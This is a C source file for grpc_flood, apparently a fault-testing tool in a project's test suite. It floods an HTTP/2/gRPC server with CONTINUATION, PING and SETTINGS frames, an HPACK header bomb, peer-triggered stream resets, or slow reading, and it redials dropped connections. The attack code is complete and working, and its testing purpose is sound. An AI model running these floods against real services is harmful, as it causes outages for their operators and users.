/* grpc_flood: connections that speak HTTP/2 to do harm, and dial again when they are closed.
 *
 *   --how continuation  a block of fields that never ends, in empty pieces
 *   --how ping          PINGs; nothing is read
 *   --how settings      SETTINGS; nothing is read
 *   --how bomb          calls whose fields are megabytes, by one entry of the table named again and again
 *   --how made          calls, and a frame for each that makes the other side reset it
 *   --how reader        calls whose answers are read at 50 kB a second, with windows that are never shut
 * Each connection sends up to --rate bytes a millisecond. Commands:
 *   count   answers: ok CONNECTED CLOSED BYTES */
#include "command.h"
#include "grpc_ask.h"

#include <getopt.h>

enum { ROOM = 65536, READ_ROOM = 65536, PIECES = 20, ENTRY = 3000, NAMED = 4000, READER_BYTES = 50, READER_CALLS = 100 };
enum { SMALL = 4096, RATE_MOST = 16384 };
#define MS UINT64_C(1000000)
#define REST (5 * MS)

enum how { CONTINUATION, PINGS, SETTINGS, BOMB, MADE, READER, HOWS };
static const char *const names[HOWS] = {"continuation", "ping", "settings", "bomb", "made", "reader"};

struct conn {
    int fd; /* -1: none */
    uint64_t dial_at;
    uint32_t stream;
    uint8_t *out;
    size_t at, end;
};

static struct {
    const char *connect, *service;
    enum how how;
    uint32_t connections;
    uint64_t rate;
} options = {.service = "org.meshfast.faults.Slow", .connections = 4, .rate = 4096};

static struct {
    struct addrinfo *to;
    struct conn *conns;
    uint64_t connected, closed, bytes;
    uint8_t block[ROOM / 2];
    size_t block_len;
    bool over;
    struct commands commands;
} self;

static void lose(struct conn *conn)
{
    close(conn->fd);
    conn->fd = -1;
    conn->dial_at = now_ns() + REST;
    self.closed++;
}

static void frame(struct conn *conn, uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t len)
{
    uint8_t *at = h2_put_head(conn->out + conn->end, len, type, flags, stream);
    if (len)
        memcpy(at, payload, len);
    conn->end += H2_HEAD + len;
}

static void dial(struct conn *conn)
{
    int small = SMALL;
    conn->fd = net_connect(self.to);
    if (conn->fd < 0) {
        conn->fd = -1;
        conn->dial_at = now_ns() + REST;
        return;
    }
    if (options.how == READER)
        setsockopt(conn->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    self.connected++;
    conn->stream = 1;
    memcpy(conn->out, H2_PREFACE, sizeof H2_PREFACE - 1);
    conn->at = 0;
    conn->end = sizeof H2_PREFACE - 1;
    uint8_t setting[6], window[4];
    h2_put_setting(setting, H2_SET_WINDOW, INT32_MAX);
    h2_put32(window, INT32_MAX - 65535);
    frame(conn, H2_SETTINGS, 0, 0, setting, sizeof setting);
    frame(conn, H2_CREDIT, 0, 0, window, sizeof window);
}

/* What is sent next. */
static void fill(struct conn *conn)
{
    static const uint8_t zeros[8];
    uint8_t setting[6];
    conn->at = conn->end = 0;
    switch (options.how) {
    case CONTINUATION:
        frame(conn, H2_HEADERS, 0, conn->stream, self.block, self.block_len);
        for (int i = 0; i < PIECES; i++)
            frame(conn, H2_CONTINUATION, 0, conn->stream, NULL, 0);
        break;
    case PINGS:
        for (int i = 0; i < PIECES; i++)
            frame(conn, H2_PING, 0, 0, zeros, sizeof zeros);
        break;
    case SETTINGS:
        h2_put_setting(setting, H2_SET_WINDOW, 65535);
        for (int i = 0; i < PIECES; i++)
            frame(conn, H2_SETTINGS, 0, 0, setting, sizeof setting);
        break;
    case BOMB:
        frame(conn, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, conn->stream, self.block, self.block_len);
        break;
    case MADE:
        frame(conn, H2_HEADERS, H2_END_HEADERS, conn->stream, self.block, self.block_len);
        frame(conn, H2_CREDIT, 0, conn->stream, zeros, 4);
        break;
    default:
        if (conn->stream > 2 * READER_CALLS)
            return;
        frame(conn, H2_HEADERS, H2_END_HEADERS, conn->stream, self.block, self.block_len);
        frame(conn, H2_DATA, H2_END_STREAM, conn->stream, zeros, 5); /* an empty message */
    }
    conn->stream += 2;
}

static void give(struct conn *conn)
{
    for (size_t left = options.rate; left;) {
        if (conn->at == conn->end)
            fill(conn);
        size_t len = conn->end - conn->at < left ? conn->end - conn->at : left;
        if (!len)
            return;
        ssize_t sent = send(conn->fd, conn->out + conn->at, len, MSG_NOSIGNAL);
        if (sent < 0 && errno == EAGAIN)
            return;
        if (sent < 0) {
            lose(conn);
            return;
        }
        conn->at += (size_t)sent;
        left -= (size_t)sent;
        self.bytes += (uint64_t)sent;
    }
}

/* Those that read nothing see the end as they send. */
static void take(struct conn *conn)
{
    static uint8_t bytes[READ_ROOM];
    if (options.how == PINGS || options.how == SETTINGS)
        return;
    ssize_t n = recv(conn->fd, bytes, options.how == READER ? READER_BYTES : sizeof bytes, 0);
    if (n == 0 || (n < 0 && errno != EAGAIN))
        lose(conn);
}

static void make_block(void)
{
    struct ask ask = {.n = 0};
    ask_init(&ask, options.service, "");
    for (uint32_t i = 0; i < ask.n; i++)
        self.block_len += mf_hpack_put_plain(self.block + self.block_len, ask.fields[i],
                                             (struct mf_h2_mark){mf_h2_name_of(ask.fields[i].key), 0});
    if (options.how != BOMB)
        return;
    memcpy(self.block + self.block_len, "\x40\1x\x7f\xb9\x16", 6); /* a literal of ENTRY bytes, which the table keeps */
    self.block_len += 6;
    memset(self.block + self.block_len, 'v', ENTRY);
    memset(self.block + self.block_len + ENTRY, 0x80 | H2_STATIC, NAMED);
    self.block_len += ENTRY + NAMED;
}

static void obey(char *line)
{
    if (strcmp(line, "count") != 0)
        die(EXIT_USAGE, "'%s' is not a command", line);
    reply("ok %llu %llu %llu", (unsigned long long)self.connected, (unsigned long long)self.closed,
          (unsigned long long)self.bytes);
}

static void parse_options(int argc, char **argv)
{
    static const struct option known[] = {{"connect", 1, NULL, 'C'}, {"how", 1, NULL, 'h'},  {"connections", 1, NULL, 'c'},
                                          {"service", 1, NULL, 'n'}, {"rate", 1, NULL, 'r'}, {0}};
    options.how = HOWS;
    for (int c; (c = getopt_long(argc, argv, "", known, NULL)) != -1;) {
        switch (c) {
        case 'C': options.connect = optarg; break;
        case 'c': options.connections = (uint32_t)number(optarg, 1, 1000); break;
        case 'n': options.service = optarg; break;
        case 'r': options.rate = number(optarg, 1, RATE_MOST); break;
        case 'h':
            for (options.how = 0; options.how < HOWS && strcmp(names[options.how], optarg) != 0;)
                options.how++;
            break;
        default: die(EXIT_USAGE, "see tests/faults/README.md");
        }
    }
    if (!options.connect || options.how == HOWS || optind != argc)
        die(EXIT_USAGE, "usage: grpc_flood --connect HOST:PORT --how continuation|ping|settings|bomb|made|reader [options]");
}

int main(int argc, char **argv)
{
    parse_options(argc, argv);
    make_block();
    self.to = net_resolve(options.connect);
    self.conns = must_alloc(options.connections * sizeof *self.conns);
    for (uint32_t i = 0; i < options.connections; i++)
        self.conns[i] = (struct conn){.fd = -1, .out = must_alloc(ROOM)};
    int epoll = epoll_create1(EPOLL_CLOEXEC);
    net_nonblocking(STDIN_FILENO);
    net_watch(epoll, EPOLL_CTL_ADD, STDIN_FILENO, EPOLLIN, &self);
    while (!self.over) {
        struct epoll_event event;
        if (epoll_wait(epoll, &event, 1, 1) > 0)
            self.over = !commands_read(&self.commands, obey);
        for (uint32_t i = 0; i < options.connections; i++) {
            struct conn *conn = &self.conns[i];
            if (conn->fd < 0 && now_ns() >= conn->dial_at)
                dial(conn);
            if (conn->fd >= 0)
                take(conn);
            if (conn->fd >= 0)
                give(conn);
        }
    }
    return 0;
}
